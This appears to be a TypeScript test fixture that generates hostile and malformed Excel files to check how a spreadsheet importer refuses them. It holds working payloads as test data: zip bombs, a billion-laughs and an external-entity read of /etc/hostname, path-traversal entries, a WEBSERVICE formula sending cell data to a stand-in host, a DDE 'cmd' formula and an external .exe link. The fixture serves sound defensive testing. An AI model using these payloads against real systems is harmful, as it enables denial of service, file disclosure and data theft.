import { strToU8, zipSync } from "fflate";

import type { RefusalCode } from "../../src/hosts/refusals";
import {
  sharedStrings,
  STYLES,
  workbookOf,
  workbookOfRows,
  workbookParts,
  workbookXml,
  worksheet,
  zipParts,
} from "./package";

/** A file that means harm or was made badly, and what must come of it: a refusal with a code, or a result. */
export interface HostileFile {
  readonly name: string;
  readonly make: () => Uint8Array;
  readonly expected: RefusalCode | "read";
}

const SHEET = "xl/worksheets/sheet1.xml";
const row = (number: number, cells: string): string => `<row r="${number}">${cells}</row>`;
const inline = (address: string, text: string): string => `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`;
const repeat = (count: number, make: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => make(index)).join("");

/** The directory of a compound file that names one stream ([MS-CFB] 2.6). */
function compoundFile(stream: string): Uint8Array {
  const bytes = new Uint8Array(4096);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  for (const [index, letter] of Array.from(stream).entries()) bytes[1024 + index * 2] = letter.charCodeAt(0);
  return bytes;
}

/** Changes bytes of an archive in place: at each place of the signature, what `change` says. */
function patched(bytes: Uint8Array, signature: number, change: (view: DataView, at: number) => void): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 46 <= copy.length; at++) if (view.getUint32(at, true) === signature) change(view, at);
  return copy;
}

const DIRECTORY = 0x02014b50;
const twin = (bytes: Uint8Array, from: string, to: string): Uint8Array => {
  const copy = bytes.slice();
  const [search, replacement] = [strToU8(from), strToU8(to)];
  for (let at = 0; at + search.length <= copy.length; at++) {
    if (search.every((byte, index) => copy[at + index] === byte)) copy.set(replacement, at);
  }
  return copy;
};

/** The workbook's relations with another target for its sheet. */
const relationsTo = (target: string): string =>
  String(workbookParts()["xl/_rels/workbook.xml.rels"]).replace("worksheets/sheet1.xml", target);

const MEGABYTE = 1024 * 1024;
const spaces = (megabytes: number): Uint8Array => new Uint8Array(megabytes * MEGABYTE).fill(32);

const laughs = (root: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY a "ha"><!ENTITY b "${"&a;".repeat(10)}"><!ENTITY c "${"&b;".repeat(10)}"><!ENTITY d "${"&c;".repeat(10)}">]>`;

/** What is no workbook at all, is locked, or unpacks to an absurd size. */
export const NO_WORKBOOKS: readonly HostileFile[] = [
  { name: "an empty file", make: () => new Uint8Array(0), expected: "empty" },
  { name: "a text", make: () => strToU8("TT;Nhiệm vụ\n1;Ban hành"), expected: "not-xlsx" },
  { name: "two bytes of a zip", make: () => strToU8("PK"), expected: "damaged" },
  { name: "a workbook cut off in the middle", make: () => workbookOf().slice(0, 700), expected: "damaged" },
  { name: "a workbook without its last bytes", make: () => workbookOf().slice(0, -5), expected: "damaged" },
  { name: "a workbook of Excel 97-2003", make: () => compoundFile("Workbook"), expected: "old-xls" },
  { name: "a workbook with a password", make: () => compoundFile("EncryptedPackage"), expected: "encrypted" },
  { name: "a zip of something else", make: () => zipSync({ "a.txt": strToU8("a") }), expected: "not-xlsx" },
  {
    name: "a Word document",
    make: () => zipParts({ ...workbookParts(), "xl/workbook.xml": "<document/>" }),
    expected: "not-xlsx",
  },
  {
    name: "a binary workbook (.xlsb)",
    make: () =>
      workbookOf({
        "_rels/.rels": `<Relationships><Relationship Id="r" Type="x/officeDocument" Target="xl/workbook.bin"/></Relationships>`,
        "xl/workbook.bin": new Uint8Array(9),
      }),
    expected: "not-xlsx",
  },
  {
    name: "a bomb that says how large it is",
    make: () => workbookOf({ "xl/media/a.bin": spaces(210) }),
    expected: "too-large",
  },
  {
    name: "a bomb that lies about its size",
    make: () =>
      patched(workbookOf({ [SHEET]: spaces(60) }), DIRECTORY, (view, at) => {
        if (view.getUint32(at + 24, true) > MEGABYTE) view.setUint32(at + 24, 1000, true);
      }),
    expected: "damaged",
  },
  {
    name: "a bomb of ten thousand parts",
    make: () =>
      zipSync(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`p/${index}`, new Uint8Array(1)])), {
        level: 0,
      }),
    expected: "too-large",
  },
  {
    name: "parts that share their bytes",
    make: () => {
      let first: number | undefined;
      return patched(workbookOf(), DIRECTORY, (view, at) => {
        first ??= view.getUint32(at + 42, true);
        view.setUint32(at + 42, first, true);
      });
    },
    expected: "damaged",
  },
  {
    name: "a part that stands twice",
    make: () => twin(workbookOf({ "xl/worksheets/sheet2.xml": worksheet("") }), "sheet2.xml", "sheet1.xml"),
    expected: "damaged",
  },
  { name: "a path that climbs out", make: () => workbookOf({ "../../etc/evil": "<a/>" }), expected: "damaged" },
  {
    name: "an encrypted part",
    make: () => patched(workbookOf(), DIRECTORY, (view, at) => view.setUint16(at + 8, 1, true)),
    expected: "encrypted",
  },
];

const markup: readonly HostileFile[] = [
  {
    name: "a billion laughs",
    make: () => workbookOf({ [SHEET]: laughs("worksheet") + worksheet(row(1, inline("A1", "&d;"))) }),
    expected: "damaged",
  },
  {
    name: "an entity from outside",
    make: () =>
      workbookOf({
        "xl/sharedStrings.xml": `<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/hostname">]>${sharedStrings("<t>&x;</t>")}`,
      }),
    expected: "damaged",
  },
  {
    name: "XML that breaks off",
    make: () => workbookOf({ [SHEET]: "<worksheet><sheetData><row" }),
    expected: "damaged",
  },
  {
    name: "a relation that climbs out",
    make: () => workbookOf({ "xl/_rels/workbook.xml.rels": relationsTo("../../../../etc/hostname") }),
    expected: "damaged",
  },
  {
    name: "a relation that leaves the file",
    make: () => workbookOf({ "xl/_rels/workbook.xml.rels": relationsTo("http://example.invalid/sheet1.xml") }),
    expected: "damaged",
  },
  { name: "a sheet that is not there", make: () => zipParts(without(workbookParts(), SHEET)), expected: "damaged" },
  {
    name: "wrong content types",
    make: () =>
      workbookOf({ "[Content_Types].xml": `<Types><Default Extension="xml" ContentType="image/png"/></Types>` }),
    expected: "read",
  },
  {
    name: "a text that the table of texts does not have",
    make: () => workbookOfRows(row(1, `<c r="A1" t="s"><v>7</v></c>`)),
    expected: "damaged",
  },
  {
    name: "a text before the table of texts begins",
    make: () => workbookOfRows(row(1, `<c r="A1" t="s"><v>-1</v></c>`)),
    expected: "damaged",
  },
  {
    name: "a million styles",
    make: () =>
      workbookOf({
        "xl/styles.xml": STYLES.replace("</cellXfs>", `${`<xf fontId="0"/>`.repeat(1_000_000)}</cellXfs>`),
      }),
    expected: "too-large",
  },
  {
    name: "a style that does not exist",
    make: () => workbookOfRows(row(1, `<c r="A1" s="99"><v>1</v></c>`)),
    expected: "read",
  },
  {
    name: "names like __proto__",
    make: () =>
      twin(
        workbookOf({
          x_proto_x: "<a/>",
          "constructor/prototype": "<a/>",
          "xl/workbook.xml": workbookXml(
            `<definedNames><definedName name="__proto__">1</definedName></definedNames>`,
          ).replace("Phụ lục", "__proto__"),
        }),
        "x_proto_x",
        "__proto__",
      ),
    expected: "read",
  },
];

const cells: readonly HostileFile[] = [
  {
    name: "a bomb by its ratio alone",
    make: () => workbookOf({ [SHEET]: worksheet(row(1, inline("A1", "x"))) + " ".repeat(140 * MEGABYTE) }),
    expected: "too-large",
  },
  {
    name: "twelve million cells",
    make: () => workbookOfRows(repeat(12_000, (index) => row(index + 1, "<c><v>1</v></c>".repeat(1000)))),
    expected: "too-large",
  },
  {
    name: "cells in two far corners",
    make: () => workbookOfRows(row(1, inline("A1", "a")) + row(1_048_576, inline("XFD1048576", "z"))),
    expected: "read",
  },
  {
    name: "an address beyond the sheet",
    make: () => workbookOfRows(row(1, inline("XFE1", "a"))),
    expected: "damaged",
  },
  {
    name: "a merged area over the whole sheet",
    make: () =>
      workbookOfRows(row(1, inline("A1", "a")), { after: `<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>` }),
    expected: "read",
  },
  {
    name: "merged areas that overlap",
    make: () =>
      workbookOfRows("", { after: `<mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="B2:C3"/></mergeCells>` }),
    expected: "damaged",
  },
  {
    name: "half a million merged areas",
    make: () =>
      workbookOfRows("", {
        after: `<mergeCells>${repeat(500_000, (index) => `<mergeCell ref="A${index * 2 + 1}:B${index * 2 + 1}"/>`)}</mergeCells>`,
      }),
    expected: "too-large",
  },
  {
    name: "a validation over the whole sheet",
    make: () =>
      workbookOfRows(row(1, inline("A1", "a")), {
        after: `<dataValidations><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a,b"</formula1></dataValidation></dataValidations>`,
      }),
    expected: "read",
  },
  {
    name: "cells of 32,767 letters",
    make: () => workbookOfRows(repeat(100, (index) => row(index + 1, inline(`A${index + 1}`, "ế".repeat(32_767))))),
    expected: "read",
  },
  {
    name: "formulas that would call out",
    make: () =>
      workbookOfRows(
        row(1, `<c r="A1" t="str"><f>WEBSERVICE("http://example.invalid/?"&amp;B1)</f><v>x</v></c>`) +
          row(2, `<c r="A2"><f>cmd|'/c calc'!A0</f><v>0</v></c>`) +
          row(3, `<c r="A3"><f>'[1]Khác'!A1</f><v>1</v></c>`),
      ),
    expected: "read",
  },
  {
    name: "links that leave the workbook",
    make: () =>
      workbookOf({
        [SHEET]: worksheet(row(1, inline("A1", "Bấm vào đây")), {
          after: `<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>`,
        }),
        "xl/worksheets/_rels/sheet1.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file://may-chu/chung/a.exe" TargetMode="External"/></Relationships>`,
      }),
    expected: "read",
  },
  {
    name: "a cell of a million letters",
    make: () => workbookOfRows(row(1, inline("A1", "ế".repeat(1_000_000)))),
    expected: "read",
  },
  {
    name: "half of a letter written as a number",
    make: () => workbookOfRows(row(1, inline("A1", "a&#xD800;b"))),
    expected: "damaged",
  },
  {
    name: "lone surrogates and right-to-left marks",
    make: () => workbookOfRows(row(1, inline("A1", "a_xD800_b") + inline("B1", "\u202Egnột\u202C\u200F"))),
    expected: "read",
  },
];

export const HOSTILE_FILES: readonly HostileFile[] = [...NO_WORKBOOKS, ...markup, ...cells];

function without(
  parts: Readonly<Record<string, string | Uint8Array>>,
  path: string,
): Record<string, string | Uint8Array> {
  return Object.fromEntries(Object.entries(parts).filter(([other]) => other !== path));
}
